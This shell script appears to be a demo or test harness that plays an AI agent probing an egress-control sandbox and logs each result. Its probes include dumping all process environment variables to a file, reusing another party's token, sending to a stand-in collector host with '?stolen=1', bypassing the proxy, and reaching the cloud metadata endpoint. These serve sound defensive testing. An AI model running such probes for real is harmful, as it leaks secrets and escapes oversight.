#!/bin/sh
# The demo's agent: an ordinary script that tries things with curl, git and an
# MCP client and prints, line by line, what came of each: "@ step outcome".
# $PORT is the demo servers' port, $MCP the MCP client.
set -u
cd /workspace
: >/tmp/body

tell() { printf '@ %s %s\n' "$1" "$2"; }

# ask STEP CURL-ARGUMENTS: the status, and the rule when it was refused.
ask() {
	step=$1
	shift
	status=$(curl -sS -m 20 -o /tmp/body -D /tmp/head -w '%{http_code} %{http_connect}' "$@" 2>/tmp/error)
	rule=$(sed -n 's/^[Xx]-[Cc]laude-[Bb]ottle-[Bb]lock: *\([a-z-]*\).*/\1/p' /tmp/head | tail -n 1)
	if [ -n "$rule" ]; then
		tell "$step" "403 $rule"
	else
		tell "$step" "${status%% *}"
	fi
}

# reach STEP HOST PORT: whether a connection can be made at all.
reach() {
	if curl -sS -m 2 --noproxy '*' -o /dev/null "http://$2:$3/" 2>/dev/null; then
		tell "$1" reached
	else
		tell "$1" unreachable
	fi
}

wait_for() {
	n=0
	until [ -e "$1" ] || [ $n -ge 300 ]; do
		sleep 0.1
		n=$((n + 1))
	done
}

api=https://api.demo.test:$PORT

{ env; cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n'; } >/workspace/environment
tell environment written

ask inject "$api/v1/me"
tell inject-body "$(cat /tmp/body)"
ask own-credential -H 'Authorization: Bearer somebody-elses' "$api/v1/me"
tell own-credential-body "$(cat /tmp/body)"
ask path "$api/admin"
ask prefix "$api/v1-evil/me"
ask method -X DELETE "$api/v1/me"
ask host "https://collector.demo.test:$PORT/?stolen=1"
ask literal --noproxy '' "https://127.0.0.1:$PORT/"
ask port https://api.demo.test:1/

reach direct-origin 127.0.0.1 "$PORT"
reach direct-internet 1.1.1.1 443
reach metadata 169.254.169.254 80
reach bundle egress 9099

if git clone -q "https://git.demo.test:$PORT/demo.git" clone 2>/tmp/error; then
	tell git-fetch "$(cat clone/README)"
	git -C clone -c user.name=agent -c user.email=agent@demo.test commit -q --allow-empty -m change
	if git -C clone push -q origin HEAD:refs/heads/change 2>/tmp/error; then
		tell git-push pushed
	else
		tell git-push refused
	fi
else
	tell git-fetch "failed: $(head -c 200 /tmp/error)"
fi

# A stream of events that must live through what happens to the bundle.
curl -sS -N -m 60 "https://events.demo.test:$PORT/stream" >/tmp/events 2>/tmp/stream-error &
stream=$!
n=0
until [ -s /tmp/events ] || [ $n -ge 100 ]; do
	sleep 0.1
	n=$((n + 1))
done
ask before-change "https://docs.demo.test:$PORT/"
tell stream-open "$(grep -c '^data:' /tmp/events)"
wait_for /workspace/changed
ask after-change "https://docs.demo.test:$PORT/"

# An agent that is refused asks, waits, and goes on.
tell ask-refused waiting
tell asked-no "$("$MCP" demo call egress-block '{"host":"collector.demo.test","justification":"I would like to send some things there."}')"
tell ask-approved waiting
tell asked-yes "$("$MCP" demo call egress-block '{"host":"new.demo.test","methods":["GET"],"justification":"The build needs its manual."}')"
ask after-approval "https://new.demo.test:$PORT/"

wait "$stream"
tell stream-end "$? $(sed -n 's/^data: //p' /tmp/events | tail -n 1)"
